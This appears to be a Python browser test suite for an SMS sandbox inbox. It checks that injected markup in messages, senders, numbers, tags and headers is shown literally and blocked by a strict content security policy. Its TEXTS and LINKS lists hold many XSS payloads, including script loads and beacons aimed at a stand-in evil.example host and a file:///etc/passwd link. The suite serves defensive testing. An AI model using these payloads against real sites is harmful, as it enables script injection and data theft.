"""What an attacker puts into a text, a sender or a number is shown as it is, and runs nowhere."""

from __future__ import annotations

import json
import re

from tests.browser.conftest import NUMBER, Inbox, call, expect

#: Each would report itself if it ran: ``__ran`` is looked at when a test ends, and so are dialogs and requests.
RUN = "window.__ran.push(1)"
TEXTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror='{RUN}'>",
    f"</p></li><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<a href='javascript:{RUN}'>click</a>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>* { background: url(http://evil.example/x.png) }</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>go</button></form>",
    "<img src=http://evil.example/pixel.png>",
    "<script src=http://evil.example/x.js></script>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"${{{RUN}}} {{{{{RUN}}}}} <%= {RUN} %>",
    f"';{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};//",
    "constructor __proto__ toString hasOwnProperty",
    "\u202e<script>desrever</script>\u202c \u2066isolated\u2069",
    "<scr\u0000ipt>" + RUN + "</scr\u0000ipt>",
]
#: Addresses that look like links; only http and https may become one.
LINKS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    "vbscript:x",
    "file:///etc/passwd",
    'https://example.com/"onmouseover=x',
]


def test_texts_are_shown_literally_and_run_nowhere(inbox: Inbox) -> None:
    """In the list, the phone, each tab of the inspector, the old phone, and the title."""
    ids = []
    for number, text in enumerate(TEXTS):
        # The control API takes what the gateway would refuse for its HTML; the refused are shown as well.
        ids.append(inbox.send(text, str(96590000000 + number)))
    page = inbox.open().page
    inbox.view("Log")
    for place, text in zip(ids, TEXTS, strict=True):
        page.evaluate("(id) => { location.hash = `#/m/${id}`; }", place)
        bubble = page.locator("#phone .bubble-text")
        page.wait_for_function(
            "(wanted) => document.querySelector('#phone .bubble-text')?.textContent === wanted", arg=text
        )
        assert bubble.locator("script, img, svg, iframe, object, style, form, input, video").count() == 0
    for name in ("Phone", "Encoding", "Edits", "Request", "Response", "Delivery", "Raw"):
        panel = inbox.tab(name)
        panel.wait_for()
        for place in ids[::5]:
            inbox.go(place)
            assert panel.locator("script, img, iframe, object, embed, style, base, meta, link").count() == 0
    page.get_by_role("button", name="Old phone").click()
    for place in ids[::7]:
        page.evaluate("(id) => { location.hash = `#/m/${id}`; }", place)
        page.locator(".lcd-text").wait_for()
    assert page.evaluate("window.__ran") == []


def test_only_web_addresses_become_links(inbox: Inbox) -> None:
    """And those open elsewhere, without a referrer."""
    for number, text in enumerate(LINKS):
        inbox.send(f"see {text} now", str(96590000000 + number))
    page = inbox.open().page
    for place, text in enumerate(LINKS, 1):
        inbox.go(place)
        expect(inbox.bubble("see")).to_contain_text(text)
        for link in page.locator("#phone .bubble-text a, #panel .quote-text a").all():
            assert re.match(r"https?://", link.get_attribute("href") or "")
            assert link.get_attribute("target") == "_blank"
            assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}


def test_senders_are_shown_literally(inbox: Inbox) -> None:
    """In the thread, the phone's head, and the inspector; the gateway does not look at their letters."""
    senders = [text for text in TEXTS if "\u0000" not in text]
    for number, sender in enumerate(senders):
        inbox.send("Hi", str(96590000000 + number), sender=sender)
    page = inbox.open().page
    inbox.view("Log")
    expect(page.locator("#list li.row").first).to_have_attribute("aria-setsize", str(len(senders)))
    for number in range(0, len(senders), 3):
        page.evaluate("(id) => { location.hash = `#/m/${id}`; }", number + 1)
        page.wait_for_function(
            "(wanted) => document.querySelector('#phone .contact-name')?.textContent.trim() === wanted.trim()",
            arg=senders[number],
        )
        assert (
            page.locator("#phone script, #phone img, #list script, #list img, #panel script, #panel img").count() == 0
        )


def test_numbers_are_shown_literally(inbox: Inbox) -> None:
    """A number that is no number is refused and captured, and its row shows it; commas part numbers."""
    numbers = [text for text in TEXTS if "," not in text and "\u0000" not in text]
    for number in numbers:
        inbox.send("Hi", number)
    page = inbox.open().page
    inbox.view("Log")
    expect(page.locator("#list li.row").first).to_have_attribute("aria-setsize", str(len(numbers)))
    for place in range(0, len(numbers), 3):
        page.evaluate("(id) => { location.hash = `#/m/${id}`; }", place + 1)
        inbox.tab("Raw")
        page.wait_for_function("(id) => document.getElementById('panel').dataset.message === String(id)", arg=place + 1)
        assert (
            page.locator("#phone script, #phone img, #list script, #list img, #panel script, #panel img").count() == 0
        )
    assert page.evaluate("window.__ran") == []


def test_tags_and_the_search_are_shown_literally(inbox: Inbox) -> None:
    """What a person types is no markup either; nor is what the sandbox says back."""
    inbox.watch.expected.append("400 (Bad Request)")
    inbox.send("Hi")
    tag = f"<img src=x onerror={RUN}>"
    call(inbox.sandbox, "PUT", "/sandbox/messages/1", {"tags": [tag, f"</script><script>{RUN}</script>"]})
    page = inbox.open("m/1").page
    expect(inbox.tab("Phone").locator(".tag").first).to_contain_text(tag)
    page.get_by_role("searchbox").fill(f"nonsense:<img/src=x/onerror={RUN}>")
    expect(page.locator("#search-state")).to_contain_text("nonsense")
    page.get_by_role("searchbox").fill("")
    page.evaluate("() => { location.hash = '#/m/<img src=x onerror=window.__ran.push(1)>'; }")
    inbox.watch.expected.append("404 (Not Found)")
    expect(page.locator("#toast")).to_be_visible()
    assert page.locator("#toast img").count() == 0


def test_account_names_and_headers_are_shown_literally(inbox: Inbox) -> None:
    """User names that don't exist, and headers of the request."""
    call(
        inbox.sandbox,
        "POST",
        "/API/send/",
        {
            "username": f"<script>{RUN}</script>",
            "password": "x",
            "sender": "S",
            "mobile": NUMBER,
            "message": "Hi",
            "test": "1",
        },
        {"User-Agent": f"<img src=x onerror={RUN}>", "X-Notifykit-Tag": f"<b onclick={RUN}>"},
    )
    page = inbox.open().page
    expect(inbox.rows).to_have_count(1)
    page.evaluate("() => { location.hash = '#/m/1'; }")
    expect(inbox.tab("Request")).to_contain_text(f"<img src=x onerror={RUN}>")
    assert page.locator("#panel img, #panel script").count() == 0


def test_half_a_pair_of_surrogates_does_no_harm(inbox: Inbox) -> None:
    """JSON can say what UTF-8 can't."""
    from http.client import HTTPConnection

    line = HTTPConnection("127.0.0.1", inbox.sandbox.port, timeout=30)
    body = (
        '{"username": "sandbox", "password": "sandboxpassword", "sender": "MY-APP", "mobile": "96598765432", '
        '"message": "half \\ud83d of it", "test": "1"}'
    )
    line.request("POST", "/API/send/", body, {"Content-Type": "application/json"})
    assert json.loads(line.getresponse().read())["result"] == "OK"
    line.close()
    inbox.open("m/1")
    expect(inbox.bubble("half")).to_contain_text("of it")
    expect(inbox.tab("Encoding")).to_contain_text("Unicode")


def test_the_policy_of_the_page_is_strict(inbox: Inbox) -> None:
    """No script of others, none in the page, no frame, no address beyond its own; nothing leaves as a referrer."""
    answer = inbox.page.goto(inbox.sandbox.url + "/")
    assert answer is not None
    policy = dict(
        part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";") if part.strip()
    )
    assert policy["default-src"] == "'self'"
    assert "unsafe-inline" not in answer.headers["content-security-policy"]
    assert "unsafe-eval" not in answer.headers["content-security-policy"]
    assert policy["frame-ancestors"] == "'none'"
    assert policy["base-uri"] == "'none'"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    html = answer.text()
    assert re.findall(r"<script(?![^>]*\ssrc=)", html) == []
    assert re.findall(r"\s(?:on\w+|style)\s*=", html) == []
    assert re.findall(r"(?:src|href)=[\"'](?:https?:)?//", html) == []


def test_a_script_that_is_put_into_the_page_is_stopped_by_the_policy(inbox: Inbox) -> None:
    """The second lock: should markup ever get in, it does not run. The watch itself is checked by this, too."""
    page = inbox.open().page
    page.evaluate(
        "(code) => { const script = document.createElement('script'); script.textContent = code; document.body.append(script); }",
        RUN,
    )
    inbox.until("() => window.__violations.length > 0")
    assert page.evaluate("window.__ran") == []
    page.evaluate("window.__violations.length = 0")
    inbox.watch.expected.append("Content Security Policy")


def test_another_origin_can_not_listen_or_write(inbox: Inbox, sandbox: object) -> None:
    """A page of another origin: its fetch and its event stream get nothing, and the inbox stays as it was."""
    from notifykit_kwtsms.sandbox import Sandbox

    inbox.send("private 123456")
    with Sandbox() as stranger:
        page = inbox.page.context.new_page()
        page.goto(stranger.url + "/")
        results = page.evaluate(
            """async (there) => {
              const attempt = async (path, options) => {
                try { const answer = await fetch(there + path, options); return answer.type === 'opaque' ? 'opaque' : await answer.text(); }
                catch (problem) { return 'failed'; }
              };
              const stream = await new Promise((resolve) => {
                try {
                  const source = new EventSource(there + '/sandbox/events?after=0');
                  source.onmessage = source.onopen = () => resolve('received');
                  source.onerror = () => resolve('failed');
                } catch (problem) { resolve('failed'); }
              });
              return [await attempt('/sandbox/messages'), await attempt('/sandbox/messages', { method: 'DELETE' }),
                      await attempt('/sandbox/messages', { method: 'POST', mode: 'no-cors', body: '{}' }), stream];
            }""",
            inbox.sandbox.url,
        )
        page.close()
    assert set(results) <= {"failed", "opaque"}
    assert len(inbox.sandbox.messages) == 1
